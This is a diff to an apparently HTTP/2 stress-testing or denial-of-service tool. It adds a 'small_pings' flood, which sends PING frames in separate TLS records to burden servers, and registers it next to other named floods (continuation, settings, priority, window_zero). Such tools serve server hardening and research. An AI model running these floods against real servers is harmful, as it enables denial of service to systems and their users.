@@ -132,8 +132,15 @@ def headers_100k_http1(pki, port, until):
 def window_zero(connection):
     """Answers that nobody takes, on as many streams as there may be."""
     if connection.stream > 2 * 64:
+        time.sleep(0.5)
         return frame(PING, 0, 0, b"12345678"), 0
     return get(connection)[1], 1
+
+
+def small_pings(connection):
+    """Each in a TLS record and a packet of its own: few bytes, much work."""
+    time.sleep(0.001)
+    return frame(PING, 0, 0, b"12345678"), 1
 
 
 def hold(first, source, count, pki, port, until):
@@ -272,6 +279,7 @@ ATTACKS = {
     "continuation": lambda *at: flood(continuation, *at),
     "settings": lambda *at: flood(many(SETTINGS_FRAME, 200), *at),
     "ping": lambda *at: flood(many(frame(PING, 0, 0, b"12345678"), 200), *at),
+    "small_pings": lambda *at: flood(small_pings, *at),
     "priority": lambda *at: flood(many(frame(PRIORITY, 0, 1, b"\0\0\0\x03\x10"), 200), *at),
     "empty_data": lambda *at: flood(empty_data, *at),
     "window_zero": lambda *at: flood(window_zero, *at, settings=b"\0\x04\0\0\0\0"),
